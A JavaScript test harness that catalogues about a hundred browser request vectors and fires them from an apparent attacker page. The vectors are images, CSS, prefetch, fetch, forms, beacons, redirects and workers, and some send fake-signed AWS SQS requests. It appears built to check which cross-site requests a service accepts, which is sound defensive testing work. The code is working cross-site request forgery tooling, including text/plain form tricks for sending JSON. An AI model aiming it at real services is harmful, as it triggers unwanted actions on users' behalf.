// Every way in which a web page can make a browser send a request, one by one: `KINDS[name](url, body)` runs in the page of
// an attacker. `hop(url, status)` is an address of the attacker that redirects to `url`.

const add = (name, attributes, parent = document.body) => {
  const element = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  parent.append(element);
  return element;
};
const head = (name, attributes) => add(name, attributes, document.head);
const style = (text) => {
  head('style', {}).textContent = text;
};
const hop = (url, status) => `/hop?status=${status}&to=${encodeURIComponent(url)}`;
const quietly = (promise) => promise.catch(() => undefined);
const frame = (html, attributes = {}) => add('iframe', { ...attributes, srcdoc: html });
const escaped = (text) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');

/**
 * Submits a form into a frame. For text/plain it splits the body at the first `=` into name and value, which is how
 * attackers send JSON.
 */
function form(url, body, { method = 'POST', enctype = 'application/x-www-form-urlencoded', into = 'sandbox' } = {}) {
  const name = `frame${Math.random()}`;
  if (into === 'sandbox') add('iframe', { name });
  const one = add('form', { action: url, method, enctype, target: into === 'sandbox' ? name : '_self' });
  const pairs = enctype === 'text/plain' ? [body.split(/=(.*)/s)] : [...new URLSearchParams(body)];
  for (const [key, value = ''] of pairs) add('input', { type: 'hidden', name: key, value }, one);
  one.submit();
}

const post = (url, body, type, more = {}) =>
  quietly(
    fetch(url, { method: 'POST', mode: 'no-cors', body, ...(type && { headers: { 'content-type': type } }), ...more }),
  );

const FORM = 'application/x-www-form-urlencoded';
const multipart = (body) => {
  const data = new FormData();
  for (const [key, value] of new URLSearchParams(body)) data.append(key, value);
  return data;
};
const worker = (source) => new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));

const KINDS = {
  // read, as parts of the page
  img: (url) => add('img', { src: url }),
  'img srcset': (url) => add('img', { srcset: `${url} 1x` }),
  picture: (url) =>
    add('source', { srcset: url }, add('picture', {})).parentElement.append(document.createElement('img')),
  'svg image': (url) => {
    document.body.insertAdjacentHTML('beforeend', `<svg><image href="${escaped(url)}" width="9" height="9"/></svg>`);
  },
  'input image': (url) => add('input', { type: 'image', src: url }),
  script: (url) => add('script', { src: url }),
  'script module': (url) => add('script', { src: url, type: 'module' }),
  'dynamic import': (url) => quietly(import(url)),
  stylesheet: (url) => head('link', { rel: 'stylesheet', href: url }),
  'css import': (url) => style(`@import url("${url}");`),
  'css background': (url) => {
    add('p', {}).style.backgroundImage = `url("${url}")`;
  },
  'css cursor': (url) => {
    add('p', {}).style.cursor = `url("${url}"), auto`;
  },
  'css font': (url) => {
    style(`@font-face { font-family: "${url}"; src: url("${url}"); }`);
    add('p', { style: `font-family: "${url}"` }).textContent = 'x';
  },
  icon: (url) => head('link', { rel: 'icon', href: url }),
  iframe: (url) => add('iframe', { src: url }),
  'iframe sandboxed': (url) => add('iframe', { src: url, sandbox: '' }),
  'iframe without referrer': (url) => add('iframe', { src: url, referrerpolicy: 'no-referrer' }),
  'iframe in srcdoc': (url) => frame(`<img src="${escaped(url)}">`),
  'img in a sandbox': (url) => frame(`<img src="${escaped(url)}">`, { sandbox: 'allow-scripts' }),
  'img in a data frame': (url) => add('iframe', { src: `data:text/html,${encodeURIComponent(`<img src="${url}">`)}` }),
  object: (url) => add('object', { data: url }),
  'object as pdf': (url) => add('object', { data: url, type: 'application/pdf' }),
  embed: (url) => add('embed', { src: url }),
  'embed as pdf': (url) => add('embed', { src: url, type: 'application/pdf' }),
  video: (url) => add('video', { src: url, preload: 'auto' }),
  'video poster': (url) => add('video', { poster: url }),
  audio: (url) => add('audio', { src: url, preload: 'auto' }),
  track: (url) =>
    add('track', { src: url, default: '', kind: 'subtitles' }, add('video', { crossorigin: '', src: 'data:,' })),
  'meta refresh': (url) => frame(`<meta http-equiv="refresh" content="0;url=${escaped(url)}">`),

  // prefetched
  'link prefetch': (url) => head('link', { rel: 'prefetch', href: url }),
  'link prefetch as document': (url) => head('link', { rel: 'prefetch', href: url, as: 'document' }),
  'link prerender': (url) => head('link', { rel: 'prerender', href: url }),
  'link preload': (url) => head('link', { rel: 'preload', href: url, as: 'image' }),
  'link preload as fetch': (url) => head('link', { rel: 'preload', href: url, as: 'fetch', crossorigin: '' }),
  'link modulepreload': (url) => head('link', { rel: 'modulepreload', href: url }),
  'link manifest': (url) => head('link', { rel: 'manifest', href: url }),
  'speculation prefetch': (url) => speculate('prefetch', url),
  'speculation prefetch redirected': (url) => speculate('prefetch', new URL(hop(url, 302), location.href).href),
  'speculation prerender': (url) => speculate('prerender', url),

  // read by scripts
  fetch: (url) => quietly(fetch(url)),
  'fetch with credentials': (url) => quietly(fetch(url, { credentials: 'include' })),
  'fetch no-cors': (url) => quietly(fetch(url, { mode: 'no-cors' })),
  'fetch without referrer': (url) => quietly(fetch(url, { mode: 'no-cors', referrerPolicy: 'no-referrer' })),
  'fetch HEAD': (url) => quietly(fetch(url, { method: 'HEAD', mode: 'no-cors' })),
  'fetch with a range': (url) => quietly(fetch(url, { mode: 'no-cors', headers: { range: 'bytes=0-9' } })),
  'fetch keepalive': (url) => quietly(fetch(url, { mode: 'no-cors', keepalive: true })),
  'fetch signed': (url) => quietly(fetch(url, { headers: { authorization: 'AWS4-HMAC-SHA256 Signature=0' } })),
  'fetch with a user': (url) => add('img', { src: url.replace('://', '://AWS4-HMAC-SHA256:x@') }),
  xhr: (url) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  },
  'event source': (url) => new EventSource(url),
  'web socket': (url) => new WebSocket(url.replace(/^http/, 'ws')),
  'fetch in a worker': (url) => worker(`fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`),
  'import in a worker': (url) => worker(`importScripts(${JSON.stringify(url)})`),
  'fetch in a service worker': (url) => navigator.serviceWorker?.register(`/worker.js?to=${encodeURIComponent(url)}`),

  // read by navigation
  'form get': (url, body) => form(`${url}`, `${new URL(url).search.slice(1)}&${body}`, { method: 'GET' }),
  'window open': (url) => open(url, '_blank', 'popup'),
  'window open without opener': (url) => open(url, '_blank', 'noopener,noreferrer'),
  'click on a link': (url) => add('a', { href: url, target: '_blank', rel: 'noopener noreferrer' }).click(),
  'click on a download': (url) => add('a', { href: url, download: '', target: '_blank' }).click(),
  'click on a redirect': (url) =>
    add('a', { href: hop(url, 302), target: '_blank', rel: 'noopener noreferrer' }).click(),
  'refresh header': (url) => add('iframe', { src: `/refresh?to=${encodeURIComponent(url)}` }),

  // redirected
  'img redirected 302': (url) => add('img', { src: hop(url, 302) }),
  'iframe redirected 302': (url) => add('iframe', { src: hop(url, 302) }),
  'script redirected 301': (url) => add('script', { src: hop(url, 301) }),
  'fetch redirected 302': (url) => quietly(fetch(hop(url, 302), { mode: 'no-cors' })),
  'fetch redirected 303 of a POST': (url) => post(hop(url, 303), 'x', 'text/plain'),

  // sent
  'form urlencoded': (url, body) => form(url, body),
  'form multipart': (url, body) => form(url, body, { enctype: 'multipart/form-data' }),
  'form text': (url, body) => form(url, body, { enctype: 'text/plain' }),
  'form in a sandbox': (url, body) =>
    frame(
      `<form method="post" enctype="text/plain" action="${escaped(url)}"><input name="${escaped(body)}"></form><script>document.forms[0].submit()</script>`,
      { sandbox: 'allow-scripts allow-forms' },
    ),
  'form redirected 307': (url, body) => form(hop(url, 307), body),
  'form redirected 308': (url, body) => form(hop(url, 308), body, { enctype: 'text/plain' }),
  'fetch redirected 307': (url, body) => post(hop(url, 307), body, 'text/plain'),
  'fetch text': (url, body) => post(url, body, 'text/plain'),
  'fetch urlencoded': (url, body) => post(url, body, FORM),
  'fetch multipart': (url, body) => post(url, multipart(body)),
  'fetch without a type': (url, body) => post(url, new Blob([body])),
  'fetch text with JSON in it': (url, body) => post(url, body, 'text/plain; application/json'),
  'fetch POST keepalive': (url, body) => post(url, body, FORM, { keepalive: true }),
  'fetch POST without referrer': (url, body) => post(url, body, FORM, { referrerPolicy: 'no-referrer' }),
  'fetch JSON': (url, body) =>
    quietly(fetch(url, { method: 'POST', body, headers: { 'content-type': 'application/json' } })),
  'fetch AWS JSON': (url) =>
    quietly(
      fetch(url, {
        method: 'POST',
        body: '{"QueueName":"by-json"}',
        headers: { 'content-type': 'application/x-amz-json-1.0', 'x-amz-target': 'AmazonSQS.CreateQueue' },
      }),
    ),
  'fetch AWS JSON signed': (url) =>
    quietly(
      fetch(url, {
        method: 'POST',
        body: '{"QueueName":"by-json"}',
        headers: {
          authorization: 'AWS4-HMAC-SHA256 Signature=0',
          'content-type': 'application/x-amz-json-1.0',
          'x-amz-target': 'AmazonSQS.CreateQueue',
        },
      }),
    ),
  'fetch PUT': (url, body) => quietly(fetch(url, { method: 'PUT', body })),
  'fetch DELETE': (url) => quietly(fetch(url, { method: 'DELETE' })),
  'xhr POST': (url, body) => {
    const request = new XMLHttpRequest();
    request.open('POST', url);
    request.setRequestHeader('content-type', FORM);
    request.send(body);
  },
  'beacon text': (url, body) => navigator.sendBeacon(url, body),
  'beacon urlencoded': (url, body) => navigator.sendBeacon(url, new URLSearchParams(body)),
  'beacon multipart': (url, body) => navigator.sendBeacon(url, multipart(body)),
  'beacon without a type': (url, body) => navigator.sendBeacon(url, new Blob([body])),
  'beacon JSON': (url, body) => navigator.sendBeacon(url, new Blob([body], { type: 'application/json' })),
  ping: (url) => add('a', { href: '/', ping: url, target: '_blank' }).click(),
  'policy report': (url) => add('iframe', { src: `/report?to=${encodeURIComponent(url)}` }),
};

function speculate(what, url) {
  const rules = { [what]: [{ source: 'list', urls: [url], eagerness: 'immediate' }] };
  head('script', { type: 'speculationrules' }).textContent = JSON.stringify(rules);
}

/** Runs kinds against targets; each request names its vector. Returns the vectors. */
globalThis.attack = (targets, kinds = Object.keys(KINDS)) =>
  targets.flatMap(({ url, body, tag }) =>
    kinds.map((name) => {
      const vector = `${tag} | ${name}`;
      try {
        KINDS[name](`${url}${url.includes('?') ? '&' : '?'}vector=${encodeURIComponent(vector)}`, body);
      } catch {
        // The browser itself refuses it.
      }
      return vector;
    }),
  );
